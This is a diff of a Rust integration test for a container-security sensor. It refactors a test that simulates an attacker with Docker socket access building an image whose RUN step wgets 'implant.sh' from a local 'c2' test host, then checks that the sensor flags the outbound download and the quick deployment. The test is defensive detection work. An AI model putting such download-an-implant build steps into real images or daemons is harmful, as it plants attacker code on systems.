@@ -11,13 +11,8 @@
 use std::path::Path;
 use std::time::Duration;
 
-use sensor_tests::{
-    Cmd, DOCKER_SOCKET, Dockerd, SensorProcess, TestHost, assert_records_match_schema, docker_cli,
-    ensure_base_image, remove_image, require_root, run, sensor_bin, unique_tag, workspace_root,
-};
-use serde_json::Value;
+use sensor_tests::*;
 
-const BASE: &str = "localbase:1";
 const BUILD_TIMEOUT: Duration = Duration::from_secs(180);
 const RECORD_TIMEOUT: Duration = Duration::from_secs(30);
 
@@ -37,19 +32,8 @@ window_secs = 600
 /// `POST /build?t=TAG` with a tar of `dockerfile` as the body, as an attacker with the socket
 /// (or an exposed API) would send it. Returns the response body (the build's JSON stream).
 fn raw_build(dockerfile: &str, tag: &str) -> String {
-    let dir = tempfile::tempdir().unwrap();
-    std::fs::write(dir.path().join("Dockerfile"), dockerfile).unwrap();
-    let tar = dir.path().join("context.tar");
-    run(
-        "tar",
-        &[
-            "-C",
-            dir.path().to_str().unwrap(),
-            "-cf",
-            tar.to_str().unwrap(),
-            "Dockerfile",
-        ],
-    );
+    let ctx = BuildContext::new(dockerfile);
+    let tar = ctx.tar();
     let out = Cmd::new("curl")
         .args([
             "-sS",
@@ -73,65 +57,36 @@ fn raw_build(dockerfile: &str, tag: &str) -> String {
     body
 }
 
-fn tag_matches(list: &Value, tag: &str) -> bool {
-    list.as_array().is_some_and(|a| {
-        a.iter().any(|t| {
-            t.as_str()
-                .is_some_and(|t| t == tag || t.ends_with(&format!("/{tag}")))
-        })
-    })
-}
-
 fn write_policy(dir: &Path, text: &str) -> String {
     let p = dir.join("policy.toml");
     std::fs::write(&p, text).unwrap();
     p.to_str().unwrap().to_string()
 }
 
-/// Removes a container at the end of the test, passed or not.
-struct ContainerGuard(String);
-
-impl Drop for ContainerGuard {
-    fn drop(&mut self) {
-        let _ = Cmd::new(docker_cli()).args(["rm", "-f", &self.0]).try_run();
-    }
-}
-
 #[test]
 fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
-    require_root("the attack test (dockerd, network namespaces, eBPF)");
-    Dockerd::ensure();
-    ensure_base_image(BASE);
-    let c2 = TestHost::new("c2");
+    let sc = Scenario::new("the attack test (dockerd, network namespaces, eBPF)");
+    let c2 = sc.host("c2");
     c2.serve_http(8080, &[("implant.sh", b"#!/bin/sh\necho implanted\n")]);
-    let state = tempfile::tempdir().unwrap();
-    let policy = write_policy(state.path(), POLICY);
-    let state_dir = state.path().join("state");
+    let policy = write_policy(sc.dir(), POLICY);
+    let state_dir = sc.state_dir();
     let args = [
         "--policy",
         policy.as_str(),
         "--state-dir",
-        state_dir.to_str().unwrap(),
+        state_dir.as_str(),
     ];
 
-    let mut sensor = SensorProcess::start(&args).unwrap();
-    let tag = unique_tag("detect-attack");
+    let mut sensor = sc.start_sensor(&args);
+    let tag = sc.tag("detect-attack");
     let url = c2.url(8080, "implant.sh");
     raw_build(
-        &format!("FROM {BASE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"),
+        &format!("FROM {BASE_IMAGE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"),
         &tag,
     );
 
     // The build, with its outbound connection to the test host, classed by the policy.
-    let build = sensor
-        .wait_for(
-            |r| {
-                r["kind"] == "build_finished"
-                    && (tag_matches(&r["tags"], &tag) || tag_matches(&r["params"]["tags"], &tag))
-            },
-            RECORD_TIMEOUT,
-        )
-        .unwrap();
+    let build = build_record(&sensor, "build_finished", &tag, RECORD_TIMEOUT);
     let build_id = build["build_id"].as_str().unwrap().to_string();
     let ip = c2.ip().to_string();
     let outbound = build["outbound"].as_array().cloned().unwrap_or_default();
@@ -143,125 +98,118 @@ fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
         to_c2["policy"] == "unknown" || to_c2["policy"] == "denied",
         "{to_c2}"
     );
-    let image_id = String::from_utf8(
-        run(
-            docker_cli(),
-            &["image", "inspect", "--format", "{{.Id}}", &tag],
-        )
-        .stdout,
-    )
-    .unwrap();
-    let image_id = image_id.trim().to_string();
+    let image_id = sc.image_id(&tag);
 
     // The findings on the build: outbound to a destination outside the allowed registries
     // (named), and root over the unix socket is not the `ci` builder.
-    let f = sensor
-        .wait_for(
-            |r| {
-                r["kind"] == "finding"
-                    && r["rule"] == "build_outbound_not_allowed"
-                    && r["build_id"] == build_id.as_str()
-            },
-            RECORD_TIMEOUT,
-        )
-        .unwrap();
-    assert!(
-        f["summary"]
-            .as_str()
-            .unwrap()
-            .contains(&format!("{ip}:8080")),
-        "{f}"
+    let f = sensor.expect_record(
+        "finding",
+        &[
+            ("rule", eq("build_outbound_not_allowed")),
+            ("build_id", eq(build_id.as_str())),
+        ],
+        RECORD_TIMEOUT,
     );
-    assert!(
-        f["details"]["destinations"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|d| d["addr"] == ip.as_str()),
-        "{f}"
+    assert_fields(
+        &f,
+        &[
+            ("summary", contains(format!("{ip}:8080"))),
+            (
+                "details.destinations",
+                satisfies(&format!("a destination {ip}"), {
+                    let ip = ip.clone();
+                    move |d| {
+                        d.as_array()
+                            .is_some_and(|d| d.iter().any(|d| d["addr"] == ip.as_str()))
+                    }
+                }),
+            ),
+            ("attack.0", eq("T1612")),
+            ("analytics.0", eq("AN1261")),
+        ],
     );
-    assert_eq!(f["attack"][0], "T1612");
-    assert_eq!(f["analytics"][0], "AN1261");
-    sensor
-        .wait_for(
-            |r| {
-                r["kind"] == "finding"
-                    && r["rule"] == "build_from_unexpected_client"
-                    && r["build_id"] == build_id.as_str()
-            },
-            RECORD_TIMEOUT,
-        )
-        .unwrap();
+    sensor.expect_record(
+        "finding",
+        &[
+            ("rule", eq("build_from_unexpected_client")),
+            ("build_id", eq(build_id.as_str())),
+        ],
+        RECORD_TIMEOUT,
+    );
     let first_run = sensor.records();
     assert_eq!(sensor.stop().unwrap().code(), Some(0));
-    assert!(
-        state_dir.join("lineage.json").is_file(),
-        "no lineage store in {}",
-        state_dir.display()
-    );
+    let store = sc.path("state").join("lineage.json");
+    assert!(store.is_file(), "no lineage store at {}", store.display());
 
     // A new sensor: the image's lineage must come from the store.
-    let sensor = SensorProcess::start(&args).unwrap();
-    let name = format!("detect-attack-{}", std::process::id());
-    let _guard = ContainerGuard(name.clone());
-    run(
-        docker_cli(),
-        &["run", "-d", "--name", &name, &tag, "sleep", "60"],
+    let sensor = sc.start_sensor(&args);
+    let name = sc.container_name("detect-attack");
+    sc.docker(&["run", "-d", "--name", &name, &tag, "sleep", "60"]);
+    let start = sensor.expect_record(
+        "container_start",
+        &[("name", eq(name.as_str()))],
+        RECORD_TIMEOUT,
     );
-    let start = sensor
-        .wait_for(
-            |r| r["kind"] == "container_start" && r["name"] == name.as_str(),
-            RECORD_TIMEOUT,
-        )
-        .unwrap();
-    assert_eq!(start["build_id"], build_id.as_str(), "{start}");
-    assert_eq!(start["image_id"], image_id.as_str(), "{start}");
-    assert_eq!(start["runtime"], "docker");
-    assert!(
-        start["seconds_since_build"]
-            .as_u64()
-            .is_some_and(|s| s < 600),
-        "{start}"
+    assert_fields(
+        &start,
+        &[
+            ("build_id", eq(build_id.as_str())),
+            ("image_id", eq(image_id.as_str())),
+            ("runtime", eq("docker")),
+            (
+                "seconds_since_build",
+                satisfies("less than 600 s", |s| s.as_u64().is_some_and(|s| s < 600)),
+            ),
+            ("client.transport", eq("unix")),
+        ],
     );
-    assert_eq!(start["client"]["transport"], "unix", "{start}");
     let container_id = start["container_id"].as_str().unwrap().to_string();
 
-    let deploy = sensor
-        .wait_for(
-            |r| {
-                r["kind"] == "finding"
-                    && r["rule"] == "deploy_soon_after_build"
-                    && r["container_id"] == container_id.as_str()
-            },
-            RECORD_TIMEOUT,
-        )
-        .unwrap();
-    assert_eq!(deploy["build_id"], build_id.as_str());
-    // The build also had a non-allowed outbound connection: the stronger severity.
-    assert_eq!(deploy["severity"], "high", "{deploy}");
-    assert!(
-        deploy["evidence"]["record_ids"]
-            .as_array()
-            .is_some_and(|a| !a.is_empty())
+    let deploy = sensor.expect_record(
+        "finding",
+        &[
+            ("rule", eq("deploy_soon_after_build")),
+            ("container_id", eq(container_id.as_str())),
+        ],
+        RECORD_TIMEOUT,
     );
-    // Nothing was pushed: no AN0946 chain.
-    sensor
-        .expect_none(
-            |r| r["kind"] == "finding" && r["rule"] == "build_push_deploy_chain",
-            Duration::from_secs(2),
-        )
-        .unwrap();
+    // The build also had a non-allowed outbound connection: the stronger severity.
+    assert_fields(
+        &deploy,
+        &[
+            ("build_id", eq(build_id.as_str())),
+            ("severity", eq("high")),
+            (
+                "evidence.record_ids",
+                satisfies("a non-empty list", |a| {
+                    a.as_array().is_some_and(|a| !a.is_empty())
+                }),
+            ),
+        ],
+    );
+    // Nothing was pushed: no AN0946 chain for this container (other tests on this host may
+    // push and run their own images while this one runs).
+    sensor.expect_no_record(
+        "finding",
+        &[
+            ("rule", eq("build_push_deploy_chain")),
+            ("container_id", eq(container_id.as_str())),
+        ],
+        Duration::from_secs(2),
+    );
 
     let mut all = first_run;
     all.extend(sensor.records());
     assert_records_match_schema(&all);
 
     // The build session itself (the builds engine's part of the record).
-    assert_eq!(build["status"], "succeeded", "{build}");
-    assert_eq!(build["image_id"], image_id.as_str(), "{build}");
-
-    drop(sensor);
-    remove_image(&tag);
+    assert_fields(
+        &build,
+        &[
+            ("status", eq("succeeded")),
+            ("image_id", eq(image_id.as_str())),
+        ],
+    );
 }
 
 #[test]
